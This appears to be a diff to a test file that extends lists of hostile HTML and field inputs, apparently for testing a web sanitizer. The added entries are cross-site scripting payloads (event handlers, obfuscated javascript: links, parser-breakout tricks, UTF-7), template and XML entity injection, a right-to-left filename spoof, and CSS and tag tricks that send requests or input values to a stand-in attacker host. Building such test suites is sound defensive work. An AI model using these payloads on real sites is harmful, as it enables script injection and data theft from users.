@@ -83,6 +83,39 @@ MARKUP = [
     f"<img src={EVIL}/pixel.gif srcset='{EVIL}/2 2x'>",
     f"<img src=x lowsrc={EVIL}/x dynsrc={EVIL}/x>",
     f"<video poster={EVIL}/x></video>",
+    f"<style>@font-face{{font-family:x;src:url({EVIL}/f)}}"
+    f"input[value^=a]{{background:url({EVIL}/a)}}</style>"
+    "<input value=abc style=font-family:x>",
+    f"<picture><source srcset='{EVIL}/s'><img src='{EVIL}/i'></picture>",
+    f"<body background={EVIL}/b><bgsound src={EVIL}/s><input type=image src={EVIL}/i>",
+    f"<video><track src={EVIL}/t><source src={EVIL}/v></video>",
+    f"<a href={EVIL} ping={EVIL}/ping>x</a><img longdesc={EVIL}/x usemap=#m>"
+    f"<map name=m><area href=javascript:{RUN} shape=default></map>",
+    f"<p style='width:expression({RUN});-moz-binding:url({EVIL}/x#y)'>x</p>",
+    f"<div style='list-style-image:url({EVIL}/l);cursor:url({EVIL}/u),auto'>x</div>",
+    f"<link rel=preconnect href={EVIL}><link rel=dns-prefetch href={EVIL}>",
+    f"<svg><image href={EVIL}/i /><feImage href={EVIL}/f /></svg>",
+    # older and odder tags
+    f"<image src=x onerror={RUN}>",
+    f"<input type=image src=x onerror={RUN}>",
+    f"<frameset onload={RUN}><frame src=javascript:{RUN}></frameset>",
+    f"<portal src={EVIL}></portal><fencedframe></fencedframe>",
+    f"<noembed><img title='</noembed><img src=x onerror={RUN}>'></noembed>",
+    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
+    f"<title><img src=x onerror={RUN}></title>",
+    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
+    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
+    f"<svg><a><set attributeName=href to=javascript:{RUN} /><text y=9>x</text></a></svg>",
+    f"<math href=javascript:{RUN}>x</math>",
+    f"<a href='java&Tab;script:{RUN}'>x</a><a href='java&NewLine;script&colon;{RUN}'>x</a>",
+    f"<a href='jav&#x0A;ascript:{RUN}'>x</a>",
+    f"<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload={RUN}/>'>",
+    f"<dialog open><form method=dialog><button autofocus onfocus={RUN}>x</button></form></dialog>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    f"<div is=x-y onmouseenter={RUN} slot=a part=b><slot onslotchange={RUN}></slot></div>",
+    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{EVIL}/e'>]><p>&y;</p>",
+    f"<?xml-stylesheet href={EVIL}/x.css?>",
+    "<meta http-equiv=set-cookie content=a=b><meta name=referrer content=unsafe-url>",
     # names that hide the page's own
     "<form id=csrfmiddlewaretoken name=csrfmiddlewaretoken>"
     "<input name=action><input name=submit></form>",
@@ -91,6 +124,7 @@ MARKUP = [
     f"<div hx-on:load={RUN} data-key=e data-dialog=keys></div>",
     # templates
     "{{7*7}}{% debug %}{{settings.SECRET_KEY}}",
+    "{{constructor.constructor('alert(1)')()}}<div ng-app ng-csp v-html=x></div>",
     "${{7*7}}#{7*7}<%= 7*7 %>",
 ]  # fmt: skip
 
@@ -104,4 +138,6 @@ FIELDS = [
     f"javascript:{RUN}//{{{{7*7}}}}",
     f"--><img src=x onerror={RUN}><!--",
     f"\\u003cimg src=x onerror={RUN}\\u003e",
+    f"\u202egpj.exe\u202c ../../{EVIL} <b>x</b>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt; %3Cscript%3E{RUN}%3C/script%3E",
 ]
